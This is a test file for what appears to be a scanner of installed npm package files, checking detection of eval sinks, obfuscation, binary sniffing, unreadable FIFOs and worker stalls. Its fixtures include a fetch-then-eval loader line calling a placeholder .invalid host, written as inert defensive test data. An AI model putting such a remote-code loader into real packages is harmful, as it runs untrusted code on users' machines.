import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { AtomScanner } from '../../src/analysis/aho.ts';
import { GATE_ATOMS } from '../../src/analysis/file-facts.ts';
import { processInstalled } from '../../src/analysis/installed/pool.ts';
import type { InstalledJob, InstalledSetup } from '../../src/analysis/installed/process.ts';
import { CODE_GATE_ATOMS } from '../../src/analysis/js/prefilter.ts';
import { loadIocs } from '../../src/ioc/index.ts';
import { IocMatcher } from '../../src/ioc/matcher.ts';

const tmp = mkdtempSync(join(tmpdir(), 'airlock-installed-'));
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});

const matcher = new IocMatcher(loadIocs());
const setup: Omit<InstalledSetup, 'bigStack'> = {
  tables: new AtomScanner([...GATE_ATOMS, ...matcher.atoms, ...CODE_GATE_ATOMS]).tables(),
  gates: GATE_ATOMS.length,
  codeBase: GATE_ATOMS.length + matcher.atoms.length,
  iocs: matcher.set,
  env: [],
  maxBytes: 1 << 20,
};

function job(name: string, body: string | Buffer): InstalledJob {
  const abs = join(tmp, name);
  writeFileSync(abs, body);
  return { path: `node_modules/pkg/${name}`, abs, size: statSync(abs).size, forcedText: false, forcedCode: false };
}

// Inert shapes: endpoints under .invalid, nothing runs.
const files: InstalledJob[] = [
  job('loader.js', "const r = await fetch('https://cfg.example.invalid/x'); eval(await r.text());\n"),
  job('obf.js', "var _0x1a2b = ['a', 'b']; function _0x3c(i) { return _0x1a2b[i]; }\n"),
  job('plain.js', 'module.exports = function add(a, b) { return a + b; };\n'),
  job('font.woff2', Buffer.concat([Buffer.from('wOF2'), Buffer.alloc(64, 0)])),
  job('notes.md', 'Just notes.\n'),
  ...Array.from({ length: 30 }, (_, i) => job(`f${i}.js`, `exports.v${i} = ${i};\n`.repeat(50))),
];
const missing: InstalledJob = {
  path: 'node_modules/pkg/gone.js',
  abs: join(tmp, 'gone.js'),
  size: 10,
  forcedText: false,
  forcedCode: false,
};

describe('the installed-files pass', () => {
  it('sniffs, gates and analyses each file, and reports the unreadable', async () => {
    const results = await processInstalled([...files, missing], setup, { threads: 1 });
    const byName = new Map(results.map((r, i) => [[...files, missing][i]?.path.split('/').pop(), r]));
    assert.ok(byName.get('loader.js')?.code?.sinks.some(s => s.kind === 'eval'));
    assert.ok(byName.get('obf.js')?.text, 'an obfuscator token calls for text facts');
    assert.equal(byName.get('plain.js')?.codeSkipped, true);
    assert.equal(byName.get('plain.js')?.text, undefined);
    assert.equal(byName.get('font.woff2')?.sniff?.content, 'binary');
    assert.equal(byName.get('notes.md')?.sniff?.content, 'text');
    assert.match(byName.get('gone.js')?.errors[0] ?? '', /^unreadable: /);
  });

  it('gives the same results in worker threads as in the calling thread', async () => {
    const here = await processInstalled([...files, missing], setup, { threads: 1 });
    const pooled = await processInstalled([...files, missing], setup, { threads: 2, minBytes: 0 });
    assert.deepEqual(pooled, here);
  });

  it('does not wait on a FIFO swapped in for a file', async () => {
    const fifo = join(tmp, 'swapped.js');
    execFileSync('mkfifo', [fifo]);
    const [result] = await processInstalled(
      [{ path: 'node_modules/pkg/swapped.js', abs: fifo, size: 100, forcedText: false, forcedCode: false }],
      setup,
      { threads: 1 },
    );
    assert.match(result?.errors[0] ?? '', /^unreadable: /);
  });

  it('stops a worker that stalls on a file, reports that file and finishes the rest', async () => {
    const heavy = job('heavy.js', `var a = fetch(u); eval(a);\n${'function f(x) { return eval(x + fetch(x)); }\n'.repeat(4000)}`);
    const jobs = [heavy, ...files];
    const here = await processInstalled(jobs, setup, { threads: 1 });
    const pooled = await processInstalled(jobs, setup, { threads: 2, minBytes: 0, stallMs: 1 });
    assert.equal(pooled.length, jobs.length);
    assert.match(pooled[0]?.errors[0] ?? '', /took longer than/);
    pooled.forEach((r, i) => {
      if (!r.errors.some(e => e.includes('took longer than'))) assert.deepEqual(r, here[i]);
    });
  });
});
